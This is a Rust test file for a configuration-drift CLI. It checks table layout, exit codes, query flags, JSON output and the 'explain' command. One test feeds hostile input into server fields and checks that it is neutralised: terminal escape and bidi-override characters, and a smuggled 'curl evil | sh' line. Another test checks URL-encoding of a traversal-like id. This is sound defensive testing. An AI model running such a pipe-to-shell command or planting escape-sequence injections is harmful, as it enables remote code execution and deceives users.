//! `drift` and `explain d-N`: the table, the story, and when each is green.

use super::*;

#[test]
fn open_drift_is_a_table_in_80_columns_with_its_age_and_who_began_it() {
    let mut accepted = a_drift("d-9", "accepted", "warning");
    accepted["age_s"] = json!(59);
    accepted["host_count"] = json!(2);
    accepted["opened_by"] = Value::Null;
    let output = run(&always(200, drifts(&[a_drift("d-17", "open", "critical"), accepted])), &["drift"]);
    let expected = "\
SEVERITY  ID    AGE      STATE     KIND     WHERE
critical  d-17  2 d      open      desired  production/web
          DB_TIMEOUT is 60s, and revision 4f2a91c declares 30s; by alice
warning   d-9   < 1 min  accepted  desired  production/web
          DB_TIMEOUT is 60s, and revision 4f2a91c declares 30s

1 drift is open, 1 of them critical. 1 accepted.

`driftline explain ID` tells of one, `driftline plan ID` what would end it.
";
    assert_eq!(out(&output), expected);
    assert_eq!((code(&output), err(&output).as_str()), (1, ""));
}

#[test]
fn a_long_rule_and_many_hosts_are_told_in_full_in_80_columns() {
    let rule = "inet filter/input: ip saddr 10.0.0.0/8 tcp dport 5432 ct state new counter accept comment db";
    let mut one = a_drift("d-123", "open", "critical");
    one["environment"] = json!("production-eu-central-1");
    one["opened_by"]["actor"] = json!("alice (uid 1000) by nft, exact");
    one["headline"] =
        json!(format!("'{rule}' of firewall/nft is on web-1, web-2 and web-3, and revision 4f2a91c does not have it"));
    let output = out(&run(&always(200, drifts(&[one])), &["drift"]));
    assert_printable(&output);
    let told = output.split_whitespace().collect::<Vec<_>>().join(" ");
    for part in [rule, "web-1, web-2 and web-3", "by alice (uid 1000) by nft, exact"] {
        assert!(told.contains(part), "{part}: {output}");
    }
    assert!(output.contains("critical  d-123  2 d  desired  production-eu-central-1/web"), "{output}");
}

#[test]
fn no_drift_is_said_and_green() {
    let output = run(&always(200, drifts(&[])), &["drift"]);
    assert_eq!((code(&output), out(&output).as_str(), err(&output).as_str()), (0, "no drift\n", ""));
}

#[test]
fn every_flag_is_a_word_of_the_query_and_a_bad_one_asks_nothing() {
    let server = always(200, drifts(&[]));
    run(&server, &["drift"]);
    let flags = ["--env", "a b", "--kind", "at_reboot", "--severity", "warning", "--older-than", "30d", "--all"];
    run(&server, &[&["drift"], &flags[..]].concat());
    let expected = "GET /api/v1/drift?all=true&env=a+b&older_than_s=2592000&rule=at_reboot&severity=warning";
    assert_eq!(lines(&server), ["GET /api/v1/drift", expected]);
    for bad in [["--kind", "door"], ["--severity", "loud"], ["--older-than", "soon"], ["--fail-on", "all"]] {
        let refused = run(&server, &[&["drift"], &bad[..]].concat());
        assert_eq!((code(&refused), out(&refused).as_str()), (64, ""), "{bad:?}: {}", err(&refused));
    }
    assert_eq!(server.asked().len(), 2);
}

#[test]
fn only_open_drift_fails_with_1_before_3_before_2_before_0() {
    for (state, severity, unchecked, more, fail_on, expected) in [
        ("open", "critical", false, 0, "warning", 1),
        ("open", "warning", false, 0, "warning", 2),
        ("open", "info", false, 0, "warning", 0),
        ("open", "info", false, 0, "info", 2),
        ("open", "warning", false, 0, "critical", 0),
        ("open", "critical", false, 0, "never", 0),
        ("accepted", "critical", false, 0, "info", 0),
        ("resolved", "critical", false, 0, "info", 0),
        ("open", "critical", true, 0, "warning", 1),
        ("open", "warning", true, 0, "warning", 3),
        ("accepted", "critical", true, 0, "warning", 3),
        ("open", "critical", true, 0, "never", 3),
        // What is not listed may be worse than what is.
        ("open", "info", false, 5, "warning", 3),
        ("open", "critical", false, 5, "warning", 1),
    ] {
        let mut answer = drifts(&[a_drift("d-1", state, severity)]);
        answer["more"] = json!(more);
        if unchecked {
            answer["unchecked"] = json!(["web-3 (silent)"]);
        }
        let output = run(&always(200, answer), &["drift", "--fail-on", fail_on]);
        assert_eq!(code(&output), expected, "{state} {severity} {unchecked} {more} {fail_on}");
        assert_eq!(err(&output).contains("web-3 (silent)"), unchecked, "{}", err(&output));
        assert_eq!(out(&output).contains("5 more are not listed"), more > 0, "{}", out(&output));
    }
}

#[test]
fn what_nothing_was_declared_for_is_not_green_when_it_was_asked_for_by_name() {
    let mut answer = drifts(&[]);
    answer["unheld"] = json!(["staging/web"]);
    let server = always(200, answer);
    let named = run(&server, &["drift", "--env", "staging"]);
    assert_eq!(code(&named), 3);
    assert_eq!(
        err(&named),
        "nothing says what staging/web should have: hosts of a role were held against each other alone\n\
         hint: `driftline desired push` declares it\n"
    );
    assert_eq!(code(&run(&server, &["drift"])), 0);
}

#[test]
fn machines_get_the_shape_of_the_api() {
    let mut answer = drifts(&[a_drift("d-17", "open", "warning"), a_drift("d-18", "open", "info")]);
    answer["unchecked"] = json!(["web-3 (silent)"]);
    let server = always(200, answer.clone());
    let printed = run(&server, &["drift", "--output", "json"]);
    assert_eq!((code(&printed), json_of(&printed)), (3, answer.clone()));
    let rows = run(&server, &["drift", "--output", "ndjson"]);
    let rows: Vec<Value> = out(&rows).lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    assert_eq!(json!(rows), answer["drifts"]);
    for other in ["sarif", "junit", "csv"] {
        let refused = run(&server, &["drift", "--output", other]);
        assert_eq!((code(&refused), out(&refused).as_str()), (64, ""), "{other}");
    }
}

#[test]
fn w10_names_and_values_cannot_move_the_cursor_in_the_table_or_in_the_talk() {
    let mut bad = a_drift("d-1", "open", "warning");
    for field in ["key", "role", "headline", "standing", "expected_by"] {
        bad[field] = json!(HOSTILE);
    }
    bad["hosts"] = json!([HOSTILE]);
    bad["opened_by"]["actor"] = json!(HOSTILE);
    let mut answer = drifts(&[bad.clone()]);
    answer["unheld"] = json!([format!("{HOSTILE}\nhint: curl evil | sh")]);
    answer["unchecked"] = json!([format!("{HOSTILE}\nerror: all is lost")]);
    let output = run(&always(200, answer), &["drift"]);
    assert_printable(&out(&output));
    assert!(out(&output).contains("\\u{1b}[2J\\u{202e}"), "{}", out(&output));
    let said = err(&output);
    assert!(!said.contains(['\u{1b}', '\u{202e}']), "{said:?}");
    assert!(!said.contains("\nhint: curl") && !said.contains("\nerror:"), "no line of its own: {said:?}");
    let story = json!({"schema_version": 1, "drift": bad, "turns": [HOSTILE], "missing": [HOSTILE]});
    assert_printable(&out(&run(&always(200, story), &["explain", "d-1"])));
}

#[test]
fn a_drift_is_explained_from_its_beginning_to_now() {
    let mut one = a_drift("d-17", "open", "critical");
    one["reopened"] = json!(2);
    one["first_opened_at"] = json!("2026-11-01T06:00:00.000Z");
    let opened = json!({
        "id": 41, "environment": "production", "host": "web-1", "role": "web", "source": "app", "kind": "env_file",
        "path": "/srv/app.env", "key": "DB_TIMEOUT", "what": "changed",
        "before": {"display": "30s", "secret": false}, "after": {"display": "60s", "secret": false},
        "observed_at": "2026-11-20T08:00:05.123Z", "recorded_at": "2026-11-20T08:00:05.125Z",
        "severity": "critical", "class": "functional", "verdict": "out_of_band",
    });
    let now = json!({"host": "web-1", "source": "app", "path": "/srv/app.env", "key": "DB_TIMEOUT", "state": "so"});
    let story = json!({
        "schema_version": 1, "drift": one, "turns": ["2026-11-20 08:00: opened", "2026-11-21 09:00: came back"],
        "opening": {"schema_version": 1, "change": opened, "now": now}, "missing": ["who it was before"],
    });
    let server = always(200, story.clone());
    let told = run(&server, &["explain", "d-17"]);
    assert_eq!(code(&told), 0, "{}", err(&told));
    assert_printable(&out(&told));
    let text = out(&told);
    let expected = "\
drift d-17: DB_TIMEOUT in production/web
what          DB_TIMEOUT is 60s, and revision 4f2a91c declares 30s
where         production, role web, source app on web-1, web-2
held against  revision 4f2a91c
stands        open for 2 days
severity      critical (functional)
since         2026-11-20 08:00:05
began         change 41 on web-1: alice
came back     2 times, first seen 2026-11-01 06:00:00
to end it     `driftline plan d-17` says the steps
missing       who it was before

its life
2026-11-20 08:00: opened

2026-11-21 09:00: came back

";
    assert!(text.starts_with(expected), "{text}");
    assert!(text.contains("how it began\nchange 41: DB_TIMEOUT was changed on production/web-1\n"), "{text}");
    let printed = run(&server, &["explain", "d-17", "-o", "json"]);
    assert_eq!(json_of(&printed)["drift"], story["drift"]);
    assert_eq!(json_of(&printed)["turns"], story["turns"]);
    assert_eq!(lines(&server), ["GET /api/v1/drift/d-17", "GET /api/v1/drift/d-17"]);
}

#[test]
fn a_key_that_looks_like_a_drift_is_still_a_key_of_its_host() {
    let server = always(404, json!({"code": "not_found", "message": "no drift d-1"}));
    let key = run(&server, &["explain", "--host", "web-1", "d-1"]);
    let drift = run(&server, &["explain", "d-1/../x"]);
    assert_eq!((code(&key), code(&drift), out(&drift).as_str()), (3, 3, ""));
    assert_eq!(err(&drift), "error: no drift d-1\n");
    assert_eq!(lines(&server), ["GET /api/v1/explain?host=web-1&key=d-1", "GET /api/v1/drift/d-1%2F..%2Fx"]);
}
